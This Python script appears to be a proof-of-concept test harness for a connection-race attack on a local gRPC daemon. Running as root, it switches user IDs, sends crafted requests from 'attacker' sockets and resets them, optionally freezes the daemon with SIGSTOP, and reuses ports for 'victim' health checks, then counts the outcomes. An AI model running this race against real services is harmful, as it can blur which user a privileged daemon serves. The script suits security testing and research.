"""Clients that are gone when they are looked at: `python racer.py OPTIONS` as root.

A socket's user is the effective one of its creator, so one process can be two users in turn, with
nothing but system calls between them. With `stop`, the daemon is stopped while a batch of
connections comes, so that all of them are over, or replaced, before it accepts the first one;
without, they race with it. Prints a JSON object: how often each thing came back to the victim.
"""

import json
import os
import random
import signal
import socket
import struct
import sys
from collections import Counter

import hpack
from hyperframe.frame import DataFrame, Frame, HeadersFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
HEALTH = "/grpc.health.v1.Health/Check"
BATCH = 100  # connections that may wait to be accepted: fewer than a backlog holds
AT_ONCE = struct.pack("ii", 1, 0)  # SO_LINGER: close() resets


def request(path):
    """A whole call, from the first byte of a connection."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]
    block = hpack.Encoder().encode(fields)
    call = HeadersFrame(1, data=block, flags=["END_HEADERS"]).serialize()
    return PREFACE + call + DataFrame(1, data=bytes(5), flags=["END_STREAM"]).serialize()


def connect(uid, address, port=0):
    """A socket of that user's, from that port."""
    os.seteuid(uid)
    family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
    connection = socket.socket(family)
    os.seteuid(0)
    connection.settimeout(30)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    connection.bind((address[0], port))
    connection.connect(address)
    return connection


def close(connection, *, reset):
    if reset:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, AT_ONCE)
    connection.close()


def outcome(connection):
    """What a connection is told: "served", "closed", or the sentence by which it is refused."""
    data = b""
    decoder = hpack.Decoder()
    try:
        while chunk := connection.recv(1 << 16):
            data += chunk
            while len(data) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(data[:9]))
                if len(data) < 9 + length:
                    break
                body, data = data[9 : 9 + length], data[9 + length :]
                if isinstance(frame, HeadersFrame):
                    fields = dict(decoder.decode(body))
                    if "grpc-status" in fields:
                        return fields.get("grpc-message") or "served"
    except OSError:
        pass
    return "closed"


class Race:
    def __init__(self, options):
        self.address = tuple(options["address"])
        self.attacker, self.victim = options["attacker"], options["victim"]
        self.attack, self.health = request(options["path"]), request(HEALTH)
        self.daemon = options["daemon"]
        self.resets = options["race"] != "write_and_close"
        self.reuses = options["race"] == "reuse"
        self.outcomes = Counter()

    def run(self, count, stop):
        for _ in range(count // BATCH):
            if stop:
                self.stopped_batch()
            else:
                for _ in range(BATCH):
                    self.finish(self.one())
                    self.pause()
            self.finish(self.ask(0))  # after which all those before have been accepted
        return self.outcomes

    def one(self):
        """The attacker comes and goes; a victim, if there is one, gets his port."""
        connection = connect(self.attacker, self.address)
        port = connection.getsockname()[1]
        connection.send(self.attack)
        close(connection, reset=self.resets)
        return self.ask(port) if self.reuses else None

    def ask(self, port):
        connection = connect(self.victim, self.address, port)
        connection.send(self.health)
        return connection

    def finish(self, connection):
        if connection is not None:
            self.outcomes[outcome(connection)] += 1
            close(connection, reset=True)

    def stopped_batch(self):
        os.kill(self.daemon, signal.SIGSTOP)
        while not self.is_stopped():
            os.sched_yield()
        try:
            victims = [self.one() for _ in range(BATCH)]
        finally:
            os.kill(self.daemon, signal.SIGCONT)
        for victim in victims:
            self.finish(victim)

    def is_stopped(self):
        with open(f"/proc/{self.daemon}/stat") as stat:
            return stat.read().rsplit(")", 1)[1].split()[0] == "T"

    @staticmethod
    def pause():
        """Meets the daemon at another moment each time."""
        for _ in range(random.randrange(2000)):
            pass


if __name__ == "__main__":
    given = json.loads(sys.argv[1])
    print(json.dumps(Race(given).run(given["count"], given["stop"])))
